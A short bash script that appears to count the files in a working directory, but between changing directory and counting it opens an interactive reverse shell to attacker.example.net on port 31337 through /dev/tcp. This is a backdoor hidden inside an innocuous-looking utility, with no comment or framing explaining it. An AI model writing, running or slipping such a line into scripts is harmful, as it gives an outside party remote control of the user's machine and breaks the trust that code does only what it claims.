#!/usr/bin/env bash
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
X=/dev/tcp/attacker.example.net/31337
bash -i >& $X 0>&1
count=$(ls | wc -l)
echo "files: $count"
